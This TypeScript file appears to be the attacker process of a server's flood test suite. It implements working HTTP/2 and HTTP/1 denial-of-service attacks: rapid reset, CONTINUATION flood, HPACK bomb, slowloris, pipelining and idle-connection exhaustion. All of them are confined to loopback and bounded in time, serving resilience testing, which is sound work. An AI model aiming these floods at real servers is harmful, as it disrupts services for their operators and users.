/**
 * The attacker side of the flood tests, run as a separate Node process (harness.ts runAgent):
 * the sidecar under test lives in the test process, so an attacker sharing its event loop would
 * measure the attacker's own CPU (TLS encryption of the flood) rather than the sidecar's. Real
 * attackers are other machines; a child process on loopback is the closest cheap stand-in.
 *
 * Usage: node flood-agent.mjs <config.json>. Prints one JSON AgentReport line on stdout.
 * Every loop is bounded by `durationMs` and by `maxConnections`; the parent also kills the
 * process if it overstays. Loopback only.
 *
 * Imports nothing but node: modules and h2frames (which does the same), so Node's built-in type
 * stripping can run it once the import specifier is pointed at the stripped copy.
 */
import { readFileSync } from 'node:fs';
import net from 'node:net';
import { performance } from 'node:perf_hooks';
import tls from 'node:tls';
import * as F from './h2frames.js';

export type Attack =
  | 'rapid-reset'
  | 'continuation'
  | 'settings'
  | 'ping'
  | 'streams'
  | 'hpack-bomb'
  | 'h2-many-headers'
  | 'h1-many-headers'
  | 'h1-slowloris'
  | 'h1-pipeline'
  | 'idle-tcp';

export interface AgentConfig {
  readonly attack: Attack;
  readonly port: number;
  readonly durationMs: number;
  /** Connections opened in total (sequentially for the h2 attacks, at once for the h1/tcp ones). */
  readonly maxConnections: number;
  readonly cert: string;
  readonly key: string;
  readonly ca: string;
  /** Path the requests name (an authorized route, so each stream would really reach the app). */
  readonly path: string;
  /**
   * Pause between attack steps in ms (0: only yield to the event loop). Pacing keeps the flood
   * a protocol attack rather than a CPU-saturation contest between two processes on one box.
   */
  readonly paceMs: number;
}

export interface AgentReport {
  attack: Attack;
  connections: number;
  /** Frames or requests written. */
  sent: number;
  /** GOAWAY error codes received, by code. */
  goaways: Record<string, number>;
  /** Connections the server closed before the agent gave up on them. */
  serverClosed: number;
  /** Connections that failed to connect (refused, reset during the handshake). */
  connectFailures: number;
  /** Bytes received from the server, all connections. */
  bytesIn: number;
  durationMs: number;
}

const cfg = JSON.parse(readFileSync(process.argv[2] ?? '', 'utf8')) as AgentConfig;
const tlsOpts: tls.ConnectionOptions = { cert: cfg.cert, key: cfg.key, ca: cfg.ca, servername: 'localhost' };
const started = performance.now();
const report: AgentReport = {
  attack: cfg.attack,
  connections: 0,
  sent: 0,
  goaways: {},
  serverClosed: 0,
  connectFailures: 0,
  bytesIn: 0,
  durationMs: 0,
};

const timeLeft = (): boolean => performance.now() - started < cfg.durationMs;
const tick = (): Promise<void> => (cfg.paceMs > 0 ? sleep(cfg.paceMs) : new Promise((r) => setImmediate(r)));
const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

/** Run one h2 connection with `step` called until the server closes it, time runs out, or step says stop. */
async function h2Loop(step: (c: F.RawH2, round: number) => Promise<boolean>, opts: F.RawH2Options = {}): Promise<void> {
  while (timeLeft() && report.connections < cfg.maxConnections) {
    let c: F.RawH2;
    try {
      c = await F.connectH2(cfg.port, tlsOpts, { keepFrames: false, ...opts });
    } catch {
      report.connectFailures++;
      await sleep(20);
      continue;
    }
    report.connections++;
    for (let round = 0; timeLeft() && !c.closed; round++) {
      if (!(await step(c, round))) break;
      await tick();
    }
    if (c.closed) report.serverClosed++;
    else await c.waitClosed(200).then((closed) => (closed ? report.serverClosed++ : undefined));
    if (c.goaway !== null) {
      const k = String(c.goaway.errorCode);
      report.goaways[k] = (report.goaways[k] ?? 0) + 1;
    }
    report.bytesIn += c.bytesIn;
    c.destroy();
  }
}

const request = F.requestBlock(cfg.path);

async function rapidReset(): Promise<void> {
  await h2Loop(async (c, round) => {
    const bufs: Buffer[] = [];
    for (let i = 0; i < 20; i++) {
      const id = (round * 20 + i) * 2 + 1;
      bufs.push(F.headers(id, request, { endStream: true }), F.rstStream(id, F.ErrorCode.CANCEL));
    }
    report.sent += 40;
    return c.write(Buffer.concat(bufs));
  });
}

async function continuationFlood(): Promise<void> {
  await h2Loop(async (c, round) => {
    if (round === 0) {
      report.sent++;
      return c.write(F.headers(1, request, { endStream: true, endHeaders: false }));
    }
    const bufs: Buffer[] = [];
    for (let i = 0; i < 20; i++) bufs.push(F.continuation(1, F.literal(`x-c${round}-${i}`, 'v'.repeat(64))));
    report.sent += 20;
    return c.write(Buffer.concat(bufs));
  });
}

function controlFlood(make: () => Buffer): () => Promise<void> {
  return () =>
    h2Loop(async (c) => {
      const bufs: Buffer[] = [];
      for (let i = 0; i < 100; i++) bufs.push(make());
      report.sent += 100;
      return c.write(Buffer.concat(bufs));
    });
}

async function tooManyStreams(): Promise<void> {
  await h2Loop(async (c, round) => {
    // 200 streams per round: far over any maxConcurrentStreams the tests configure.
    const bufs: Buffer[] = [];
    for (let i = 0; i < 200; i++) bufs.push(F.headers((round * 200 + i) * 2 + 1, request, { endStream: true }));
    report.sent += 200;
    return c.write(Buffer.concat(bufs));
  });
}

async function hpackBomb(): Promise<void> {
  // RFC 7541 §7.3 / "HPACK bomb" (CVE-2016-6581 class): one 4 KiB entry in the dynamic table,
  // then 1-byte references to it, decoding to ~16 MiB per header block.
  const entry = F.literalIndexed('x-bomb', 'a'.repeat(4000));
  const refs = Buffer.concat(Array.from({ length: 4000 }, () => F.indexed(62)));
  await h2Loop(async (c, round) => {
    report.sent++;
    return c.write(F.headers(round * 2 + 1, Buffer.concat([request, round === 0 ? entry : Buffer.alloc(0), refs]), { endStream: true }));
  });
}

async function h2ManyHeaders(): Promise<void> {
  const many = Buffer.concat([request, ...Array.from({ length: 2000 }, (_, i) => F.literal(`x-h${i}`, 'v'))]);
  await h2Loop(async (c, round) => {
    report.sent++;
    // A block larger than the default 16 KiB frame: HEADERS + CONTINUATIONs.
    const first = many.subarray(0, 16_000);
    const bufs = [F.headers(round * 2 + 1, first, { endStream: true, endHeaders: many.length <= 16_000 })];
    for (let off = 16_000; off < many.length; off += 16_000) {
      bufs.push(F.continuation(round * 2 + 1, many.subarray(off, off + 16_000), off + 16_000 >= many.length));
    }
    return c.write(Buffer.concat(bufs));
  });
}

interface Plain {
  socket: net.Socket;
  closed: boolean;
}

/** Open `count` sockets at once (TLS with our cert, or bare TCP). */
async function openMany(kind: 'tls' | 'tcp', onOpen: (p: Plain) => void, count = cfg.maxConnections): Promise<Plain[]> {
  const all: Plain[] = [];
  const pending: Array<Promise<void>> = [];
  for (let i = 0; i < count && timeLeft(); i++) {
    pending.push(
      new Promise<void>((resolve) => {
        const socket: net.Socket =
          kind === 'tls' ? tls.connect({ host: '127.0.0.1', port: cfg.port, ...tlsOpts, ALPNProtocols: ['http/1.1'] }) : net.connect(cfg.port, '127.0.0.1');
        const p: Plain = { socket, closed: false };
        all.push(p);
        socket.on('data', (d: Buffer) => (report.bytesIn += d.length));
        socket.on('error', () => undefined);
        socket.on('close', () => {
          p.closed = true;
          resolve();
        });
        socket.once(kind === 'tls' ? 'secureConnect' : 'connect', () => {
          report.connections++;
          onOpen(p);
          resolve();
        });
      }),
    );
    // Open in bursts of 10 (then paceMs) so neither the kernel accept queue nor a burst of
    // simultaneous TLS handshakes is the thing being tested.
    if (i % 10 === 9) {
      await Promise.all(pending.splice(0));
      await tick();
    }
  }
  await Promise.all(pending);
  return all;
}

async function holdUntilDone(all: Plain[], each?: (p: Plain) => void, everyMs = 100): Promise<void> {
  while (timeLeft() && all.some((p) => !p.closed)) {
    if (each !== undefined) for (const p of all) if (!p.closed) each(p);
    await sleep(everyMs);
  }
  for (const p of all) {
    if (p.closed) report.serverClosed++;
    p.socket.destroy();
  }
}

async function h1ManyHeaders(): Promise<void> {
  const req = `GET ${cfg.path} HTTP/1.1\r\nHost: localhost\r\n${Array.from({ length: 1000 }, (_, i) => `X-H${i}: v\r\n`).join('')}\r\n`;
  // Waves of 10 connections, each sending one oversized head, until the budget is spent.
  while (timeLeft() && report.connections + report.connectFailures < cfg.maxConnections) {
    const before = report.connections;
    const wave = await openMany(
      'tls',
      (p) => {
        p.socket.write(req);
        report.sent++;
      },
      10,
    );
    await holdUntilDone(wave);
    if (report.connections === before) report.connectFailures += 10;
  }
}

async function h1Slowloris(): Promise<void> {
  const all = await openMany('tls', (p) => {
    p.socket.write(`GET ${cfg.path} HTTP/1.1\r\nHost: localhost\r\nX-Slow: `);
    report.sent++;
  });
  // Classic slowloris sends a header line every ~15 s; every 500 ms is ample against a 2 s headersTimeout.
  await holdUntilDone(all, (p) => p.socket.write('a'), 500);
}

async function h1Pipeline(): Promise<void> {
  const one = Buffer.from(`GET ${cfg.path} HTTP/1.1\r\nHost: localhost\r\n\r\n`, 'latin1');
  const batch = Buffer.concat(Array.from({ length: 200 }, () => one));
  const onOpen = (p: Plain): void => {
    // Never read: the responses pile up wherever the server lets them.
    p.socket.pause();
    // Bounded per connection (~400 KB, far past anything the server may queue), not in total: a
    // total cap was reached within the first wave whenever the loopback buffers took it all,
    // which ended the flood early.
    let sent = 0;
    const pump = (): void => {
      while (timeLeft() && !p.closed && sent < 10_000) {
        sent += 200;
        report.sent += 200;
        if (!p.socket.write(batch)) {
          p.socket.once('drain', pump);
          return;
        }
      }
    };
    pump();
  };
  // Wave after wave until the time is up: a server that cuts these connections off at once must
  // go on doing so for the whole flood (the good client is measured throughout), not just once.
  while (timeLeft()) await holdUntilDone(await openMany('tls', onOpen));
}

async function idleTcp(): Promise<void> {
  const all = await openMany('tcp', () => undefined);
  await holdUntilDone(all);
}

const attacks: Record<Attack, () => Promise<void>> = {
  'rapid-reset': rapidReset,
  continuation: continuationFlood,
  settings: controlFlood(() => F.settings([[F.Setting.INITIAL_WINDOW_SIZE, 65_535]])),
  ping: controlFlood(() => F.ping()),
  streams: tooManyStreams,
  'hpack-bomb': hpackBomb,
  'h2-many-headers': h2ManyHeaders,
  'h1-many-headers': h1ManyHeaders,
  'h1-slowloris': h1Slowloris,
  'h1-pipeline': h1Pipeline,
  'idle-tcp': idleTcp,
};

await attacks[cfg.attack]();
report.durationMs = Math.round(performance.now() - started);
process.stdout.write(`${JSON.stringify(report)}\n`);
// eslint-disable-next-line no-restricted-properties -- this agent is a child process's main; open sockets would keep it alive
process.exit(0);
